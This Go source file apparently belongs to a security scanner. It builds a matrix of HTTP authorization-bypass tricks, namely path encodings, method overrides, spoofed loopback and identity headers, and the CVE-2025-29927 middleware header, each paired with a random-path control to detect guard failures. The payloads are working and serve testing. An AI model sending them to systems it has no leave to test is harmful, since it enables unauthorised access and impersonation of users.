package gather

import (
	"net/http"
	"slices"
	"strings"
	"unicode"

	"github.com/launchready/launchready/evidence"
	"github.com/launchready/launchready/internal/wire"
	"github.com/launchready/launchready/portal"
)

// Trick is one way of asking for a closed route so that a guard may miss it.
// Make builds it for any target, so that the same trick on a random path can
// serve as its control.
type Trick struct {
	Name string
	Make func(method, target string) wire.Request
}

// Tricks returns the bypass matrix of live.md §2. Facts are values that name
// the owner (ids, e-mail, tenant id), for headers that claim to be them.
func Tricks(facts []string) []Trick {
	out := pathTricks()
	out = append(out, methodTricks()...)
	return append(out, headerTricks(facts)...)
}

// rewrite makes a trick that changes the request target and nothing else.
func rewrite(name string, change func(path string) string) Trick {
	return Trick{"path " + name, func(method, target string) wire.Request {
		_, onWire := splitOrigin(target)
		path, query, has := strings.Cut(onWire, "?")
		raw := change(path)
		if has {
			raw += "?" + query
		}
		return wire.Request{Method: method, URL: target, Target: raw, Effect: portal.Look}
	}}
}

// splitOrigin parts a target from the origin it may start with.
func splitOrigin(target string) (origin, path string) {
	if i := strings.Index(target, "://"); i > 0 {
		if j := strings.IndexByte(target[i+3:], '/'); j >= 0 {
			return target[:i+3+j], target[i+3+j:]
		}
	}
	return "", target
}

func suffix(s string) func(string) string { return func(p string) string { return p + s } }
func prefix(s string) func(string) string { return func(p string) string { return s + p } }

func pathTricks() []Trick {
	return []Trick{
		rewrite("trailing slash", suffix("/")),
		rewrite("double slash", prefix("/")),
		rewrite("double slash inside", func(p string) string { return lastSlash(p, "//") }),
		rewrite("dot segment", func(p string) string { return lastSlash(p, "/./") }),
		rewrite("parent segment", prefix("/lr/..")),
		rewrite("matrix parameter", suffix(";a=b")),
		rewrite("matrix parameter inside", func(p string) string { return firstSegment(p, func(s string) string { return s + ";a=b" }) }),
		rewrite("dot dot semicolon", prefix("/lr/..;")),
		rewrite("encoded dot", prefix("/%2e")),
		rewrite("encoded slash", func(p string) string { return lastSlash(p, "%2f") }),
		rewrite("trailing space", suffix("%20")),
		rewrite("trailing tab", suffix("%09")),
		rewrite("trailing null", suffix("%00")),
		rewrite("encoded letter", func(p string) string { return encodeLast(p, "%") }),
		rewrite("double encoding", func(p string) string { return encodeLast(p, "%25") }),
		rewrite("case first", func(p string) string { return firstSegment(p, flipCase) }),
		rewrite("case last", func(p string) string { return lastSegment(p, flipCase) }),
		rewrite("suffix .json", suffix(".json")),
		rewrite("suffix .html", suffix(".html")),
		rewrite("suffix .css", suffix(".css")),
		rewrite("suffix /.js", suffix("/lr.js")),
		rewrite("empty query", suffix("?")),
		rewrite("encoded hash", suffix("%23")),
		rewrite("star", suffix("*")),
		rewrite("full-width slash", func(p string) string { return lastSlash(p, "%ef%bc%8f") }),
		rewrite("sibling v0", version("v0")),
		rewrite("sibling v2", version("v2")),
		rewrite("sibling internal", func(p string) string { return firstSegment(p, func(string) string { return "internal" }) }),
	}
}

func methodTricks() []Trick {
	plain := func(name, m string) Trick {
		return Trick{"method " + name, func(_, target string) wire.Request {
			r := wire.Request{Method: m, URL: target, Effect: portal.Look}
			if m != http.MethodHead && m != http.MethodOptions {
				_, r.Target = splitOrigin(target)
			}
			return r
		}}
	}
	// An overridden POST counts as a write: a portal that ignores the override
	// runs the POST.
	override := func(header string) Trick {
		return Trick{"method " + header, func(method, target string) wire.Request {
			return wire.Request{
				Method: http.MethodPost, URL: target, Effect: portal.Write,
				Header: []evidence.Field{{Name: header, Value: method}},
			}
		}}
	}
	return []Trick{
		plain("HEAD", http.MethodHead), plain("OPTIONS", http.MethodOptions), plain("TRACE", http.MethodTrace),
		plain("lower case", "get"), plain("unknown", "LRX"),
		override("X-HTTP-Method-Override"), override("X-HTTP-Method"), override("X-Method-Override"),
		{"method _method", func(method, target string) wire.Request {
			sep := "?"
			if strings.Contains(target, "?") {
				sep = "&"
			}
			return wire.Request{Method: http.MethodPost, URL: target + sep + "_method=" + method, Effect: portal.Write}
		}},
	}
}

// routing headers name the real target in a header of a request to the root.
var routing = []string{"X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Uri"}

// loopback is the address that says "from inside".
const loopback = "127.0.0.1"

// origins are headers by which a proxy tells where a request came from. Those
// that say the same travel together: whoever believes one believes the request.
var origins = []struct {
	name   string
	fields []evidence.Field
}{
	{"client address", []evidence.Field{
		{Name: "X-Forwarded-For", Value: loopback},
		{Name: "X-Real-IP", Value: loopback},
		{Name: "X-Client-IP", Value: loopback},
		{Name: "X-Originating-IP", Value: loopback},
		{Name: "X-Custom-IP-Authorization", Value: loopback},
		{Name: "True-Client-IP", Value: loopback},
		{Name: "CF-Connecting-IP", Value: loopback},
		{Name: "Client-IP", Value: loopback},
		{Name: "Forwarded", Value: "for=" + loopback},
	}},
	{"forwarded host", []evidence.Field{{Name: "X-Forwarded-Host", Value: "localhost"}, {Name: "X-Forwarded-Proto", Value: "https"}}},
	{"X-Forwarded-Prefix", []evidence.Field{{Name: "X-Forwarded-Prefix", Value: "/internal"}}},
	// CVE-2025-29927, for the two places a middleware may stand.
	{"X-Middleware-Subrequest src", []evidence.Field{{Name: "X-Middleware-Subrequest", Value: "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware"}}},
	{"X-Middleware-Subrequest", []evidence.Field{{Name: "X-Middleware-Subrequest", Value: "middleware:middleware:middleware:middleware:middleware"}}},
	{"X-Role", []evidence.Field{{Name: "X-Role", Value: "admin"}}},
	{"Content-Type", []evidence.Field{{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}}},
}

// claims are headers by which an outer layer tells an application who calls.
var claims = []string{"X-User-Id", "X-Remote-User", "X-Auth-User", "X-Tenant-Id", "X-Org-Id"}

// maxClaims bounds how many of the owner's values are claimed.
const maxClaims = 3

func headerTricks(facts []string) []Trick {
	var out []Trick
	with := func(name string, fields ...evidence.Field) Trick {
		return Trick{"header " + name, func(method, target string) wire.Request {
			return wire.Request{Method: method, URL: target, Header: slices.Clone(fields), Effect: portal.Look}
		}}
	}
	for _, h := range routing {
		out = append(out, Trick{"header " + h, func(method, target string) wire.Request {
			return wire.Request{Method: method, URL: "/", Header: []evidence.Field{{Name: h, Value: target}}, Effect: portal.Look}
		}})
	}
	for _, o := range origins {
		out = append(out, with(o.name, o.fields...))
	}
	for _, fact := range facts[:min(maxClaims, len(facts))] {
		var who []evidence.Field
		for _, h := range claims {
			who = append(who, evidence.Field{Name: h, Value: fact})
		}
		out = append(out, with("X-User-Id and its like", who...))
	}
	return append(out,
		Trick{"header Host", func(method, target string) wire.Request {
			return wire.Request{Method: method, URL: target, Host: "localhost", Effect: portal.Look}
		}},
		Trick{"header Referer", func(method, target string) wire.Request {
			return wire.Request{Method: method, URL: target, Header: []evidence.Field{{Name: "Referer", Value: target}}, Effect: portal.Look}
		}},
	)
}

func lastSlash(p, with string) string {
	i := strings.LastIndexByte(p, '/')
	if i < 0 {
		return p
	}
	return p[:i] + with + p[i+1:]
}

func firstSegment(p string, change func(string) string) string {
	rest := strings.TrimPrefix(p, "/")
	head, tail, more := strings.Cut(rest, "/")
	if more {
		return "/" + change(head) + "/" + tail
	}
	return "/" + change(head)
}

func lastSegment(p string, change func(string) string) string {
	i := strings.LastIndexByte(p, '/')
	return p[:i+1] + change(p[i+1:])
}

func flipCase(s string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsUpper(r) {
			return unicode.ToLower(r)
		}
		return unicode.ToUpper(r)
	}, s)
}

// encodeLast percent-encodes the path's last letter; percent is "%" or "%25".
func encodeLast(p, percent string) string {
	if p == "" || p == "/" {
		return p
	}
	last := p[len(p)-1]
	const hexDigits = "0123456789abcdef"
	return p[:len(p)-1] + percent + string(hexDigits[last>>4]) + string(hexDigits[last&15])
}

// version replaces the version segment of an API path, or adds one.
func version(v string) func(string) string {
	return func(p string) string {
		segs := strings.Split(p, "/")
		for i, s := range segs {
			if len(s) >= 2 && s[0] == 'v' && s[1] >= '0' && s[1] <= '9' {
				segs[i] = v
				return strings.Join(segs, "/")
			}
		}
		if rest, ok := strings.CutPrefix(p, "/api/"); ok {
			return "/api/" + v + "/" + rest
		}
		return "/" + v + p
	}
}

// RandomTarget returns a target as deep as target that names nothing: the
// control of a trick.
func RandomTarget(target string) string {
	origin, path := splitOrigin(target)
	path, _, _ = strings.Cut(path, "?")
	return origin + lastSegment(path, func(string) string { return Canary("lrx") })
}
